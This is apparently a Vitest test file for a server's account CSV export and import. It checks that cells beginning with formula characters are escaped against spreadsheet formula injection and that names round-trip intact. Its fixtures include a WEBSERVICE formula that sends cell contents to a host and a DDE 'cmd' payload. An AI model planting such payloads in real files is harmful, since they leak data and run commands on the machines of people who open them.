import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAccountsSandbox, type AccountsSandbox } from '../../helpers/accounts-sandbox.ts';
import { escapeCsvCell, parseAccountsCsv, unescapeCsvCell } from '../../../server/core/accounts/account-csv.ts';

// Full names the validator takes that a spreadsheet would read as a formula (red team 10, F9),
// real names beginning with `-` or `'`, and names that must come out untouched.
const names: Record<string, string> = {
  formula1: '=WEBSERVICE("http"&CHAR(58)&"//127.0.0.1/?"&A3&B3)',
  formula2: "@SUM(1+1)*cmd|'/C calc'!A0",
  formula3: '+33 1 23 45 67 89',
  formula4: '-Anne',
  quote1: "'Brien",
  quote2: "''Twice",
  quote3: "'=Not a formula",
  plain1: 'Jean-Luc Picard',
  plain2: "Anne O'Brien",
};

let s: AccountsSandbox;
let other: AccountsSandbox;
beforeAll(async () => {
  [s, other] = await Promise.all([createAccountsSandbox(), createAccountsSandbox()]);
  for (const [login, fullName] of Object.entries(names)) await s.service.createAccount({ login, fullName });
});
afterAll(() => Promise.all([s.remove(), other.remove()]));

describe('CSV cells a spreadsheet would read as formulas', () => {
  it("escapes each formula's first character, and `'`, with one `'`; nothing else", () => {
    for (const value of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', "'x", "''x"])
      expect(escapeCsvCell(value)).toBe(`'${value}`);
    for (const value of ['', 'Amélie Durand', 'a=1', 'Jean-Luc', ' =1', '/bin/bash', 'users'])
      expect(escapeCsvCell(value)).toBe(value);
  });

  it("takes exactly one `'` off before an escaped character, and reads back every escaped value", () => {
    expect(unescapeCsvCell("'=1+1")).toBe('=1+1');
    expect(unescapeCsvCell("''=1")).toBe("'=1");
    expect(unescapeCsvCell("''x")).toBe("'x");
    // A hand-written quote before anything else is part of the text.
    expect(unescapeCsvCell("'Brien")).toBe("'Brien");
    expect(unescapeCsvCell("'")).toBe("'");
    for (const value of ['=1', '-Anne', "'Brien", "''x", "'''", "'", '\tx', 'Plain', ''])
      expect(unescapeCsvCell(escapeCsvCell(value))).toBe(value);
  });

  it('exports no cell that begins with a formula character, the full names escaped', () => {
    const csv = s.service.exportCsv();
    const cells = (parse(csv) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const written = Object.fromEntries(
      (parse(csv, { columns: true }) as Record<string, string>[]).map((r) => [r.login, r]),
    );
    expect(written.formula1!.fullName).toBe(`'${names.formula1}`);
    expect(written.formula2!.fullName).toBe(`'${names.formula2}`);
    expect(written.formula4!.fullName).toBe("'-Anne");
    expect(written.quote1!.fullName).toBe("''Brien");
    expect(written.plain1!.fullName).toBe('Jean-Luc Picard');
    expect(written.plain2!.fullName).toBe("Anne O'Brien");
  });

  it('imports its own export back with the same full names', async () => {
    const csv = s.service.exportCsv();
    const ours = new Set(Object.keys(names));
    expect(
      Object.fromEntries(
        parseAccountsCsv(csv).flatMap((row) => (ours.has(row.login!) ? [[row.login, row.fullName]] : [])),
      ),
    ).toEqual(names);
    // Through the import itself, into another machine: the accounts come back as they were.
    const [header, ...lines] = csv.trimEnd().split('\n');
    const rows = lines.filter((line) => ours.has(line.split(',')[0]!));
    const report = await other.service.importCsv([header, ...rows].join('\n'), { createHomes: false });
    expect(report.created.sort()).toEqual([...ours].sort());
    for (const [login, fullName] of Object.entries(names))
      expect(other.service.getAccount(login)?.fullName).toBe(fullName);
  });
});
